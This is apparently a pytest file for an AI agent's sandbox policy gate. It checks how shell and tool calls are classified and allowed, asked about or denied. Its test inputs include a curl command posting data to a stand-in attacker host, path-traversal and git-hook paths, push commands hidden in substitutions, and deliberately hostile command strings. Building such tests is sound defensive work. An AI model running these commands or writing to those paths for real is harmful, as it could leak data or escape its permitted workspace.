"""One place decides what a call can change: the search's kinds and the policy's defaults agree, and the
policy learns a tool's effect from the tool's declaration."""

from __future__ import annotations

from pathlib import Path

import pytest
from pydantic import BaseModel

from branchwise.agent.record.events import EventBus, ToolCallRecord
from branchwise.agent.run.gate import PolicyGate, classify_calls
from branchwise.sandbox.policy.effects import command_effect
from branchwise.sandbox.policy.engine import Policy
from branchwise.sandbox.policy.shellwords import parse
from branchwise.sandbox.settings import PolicySettings, SandboxSettings
from branchwise.tools import Observation, Tool, ToolBox, ToolContext, default_tools

COMMANDS = [
    "git -C . push", "git push origin main", "cd x && git push", "git status", "git commit -qm x", "npm publish",
    "uv publish", "docker push x", "docker run x", "pip install --user x", "python -m pytest -q", "make test",
    "$G push", "curl -d x https://evil.example", "curl http://localhost:8000", "ssh host true", "ls -la",
    "gh release create v1", "gh pr view 3", "kubectl apply -f x.yaml", "terraform plan", "echo $(git push)",
]  # fmt: skip


def shell(command: str) -> ToolCallRecord:
    return ToolCallRecord(id="c", name="shell", arguments={"command": command})


def gate_for(tmp_path: Path, tools: ToolBox | None = None, **policy: object) -> tuple[PolicyGate, list]:
    seen: list = []
    bus = EventBus()
    bus.subscribe(seen.append)
    settings = PolicySettings(**policy)  # type: ignore[arg-type]
    return PolicyGate(Policy(settings, SandboxSettings(), tmp_path), bus, taint=None, tools=tools), seen


@pytest.mark.parametrize("command", COMMANDS)
def test_the_search_commits_exactly_where_the_policy_asks(tmp_path: Path, command: str) -> None:
    gate, seen = gate_for(tmp_path)
    gate(shell(command))
    asks = seen[-1].decision == "ask" and seen[-1].rule.startswith("default:")
    assert (classify_calls([shell(command)]) == "irreversible") == asks, (command, seen[-1].rule)


def test_git_dash_c_push_is_irreversible_to_the_search(tmp_path: Path) -> None:
    assert classify_calls([shell("git -C . push")]) == "irreversible"
    assert classify_calls([shell("git -C . status")]) == "ephemeral"
    assert classify_calls([shell("docker run x")]) == "stateful"


class _Args(BaseModel):
    url: str = ""
    path: str = ""


def _tool(name: str, effect: str, paths: tuple[str, ...] = ()) -> Tool:
    cls = type(name, (Tool,), {"name": name, "description": name, "Args": _Args, "effect": effect,
                               "path_args": paths, "run": lambda self, a, c: Observation("ok")})  # fmt: skip
    return cls()


def test_the_policy_reads_effects_from_tool_declarations(tmp_path: Path) -> None:
    box = ToolBox(default_tools())
    for tool in (_tool("browser_click", "browser"), _tool("mcp_issue", "external"), _tool("mcp_read", "read"),
                 _tool("download", "file", ("path",))):  # fmt: skip
        box.add(tool)
    gate, seen = gate_for(tmp_path, box)
    cases = {"browser_click": ("allow", "default:browser"), "mcp_issue": ("ask", "default:external"),
             "mcp_read": ("allow", "default:read"), "download": ("allow", "default:workspace-edit"),
             "not_a_tool": ("ask", "default:external")}  # fmt: skip
    for name, expected in cases.items():
        gate(ToolCallRecord(id=name, name=name, arguments={"path": "ok.txt"}))
        assert (seen[-1].decision, seen[-1].rule) == expected, name
    # A declared path argument is checked like the file tools' paths.
    gate(ToolCallRecord(id="x", name="download", arguments={"path": "../outside.txt"}))
    assert (seen[-1].decision, seen[-1].rule) == ("deny", "builtin:outside-workspace")
    gate(ToolCallRecord(id="x", name="download", arguments={"path": ".git/hooks/pre-commit"}))
    assert (seen[-1].decision, seen[-1].rule) == ("deny", "builtin:protected-path")
    # Under untrusted, browser work still runs and external work still asks.
    strict, seen = gate_for(tmp_path, box, approval="untrusted")
    strict(ToolCallRecord(id="b", name="browser_click", arguments={}))
    strict(ToolCallRecord(id="m", name="mcp_issue", arguments={}))
    assert [e.decision for e in seen] == ["allow", "ask"]
    kinds = [classify_calls([ToolCallRecord(id="k", name=n, arguments={})], box)
             for n in ("browser_click", "mcp_issue", "mcp_read", "download", "view")]  # fmt: skip
    assert kinds == ["stateful", "irreversible", "read", "file", "read"]


def test_a_tool_can_refine_its_effect_per_call(tmp_path: Path) -> None:
    class Browser(Tool):
        name, description, Args, effect = "browser", "b", _Args, "browser"

        def effect_of(self, args: _Args) -> str:  # type: ignore[override]
            return "external" if args.url.startswith("submit:") else "browser"

        def run(self, args: _Args, ctx: ToolContext) -> Observation:
            return Observation("ok")

    box = ToolBox([Browser()])
    gate, seen = gate_for(tmp_path, box)
    gate(ToolCallRecord(id="a", name="browser", arguments={"url": "https://docs.example/"}))
    gate(ToolCallRecord(id="b", name="browser", arguments={"url": "submit:form"}))
    assert [(e.decision, e.rule) for e in seen] == [("allow", "default:browser"), ("ask", "default:external")]


def test_the_parser_reads_what_bash_reads() -> None:
    def argvs(command: str) -> list[list[str]]:
        return [c.argv for c in parse(command).commands]

    assert argvs("git pu\\\nsh") == [["git", "push"]]
    assert argvs("echo 'a\\\nb'") == [["echo", "a\\\nb"]]
    assert argvs("echo a # git push\nls") == [["echo", "a"], ["ls"]]
    assert argvs("cat <<'EOF'\n$(git push)\nEOF") == [["cat"]]
    assert argvs("cat <<EOF\n$(git push)\nEOF") == [["cat"], ["git", "push"]]
    assert argvs(">out 2>&1 git push") == [["git", "push"]]
    assert argvs("a=$((1 + $(git push))) b") == [["git", "push"], ["a=$((1 + $(git push)))", "b"]]
    script = parse("echo 'open")
    assert not script.complete


def test_hostile_command_lines_are_judged_quickly_and_conservatively() -> None:
    deep = "echo " + "$(echo " * 40 + "git push" + ")" * 40
    assert command_effect(deep).irreversible is not None
    assert command_effect("x" * 200_000).irreversible is not None  # too long to read: unknown
    assert command_effect("$(" * 3000).kind == "irreversible"
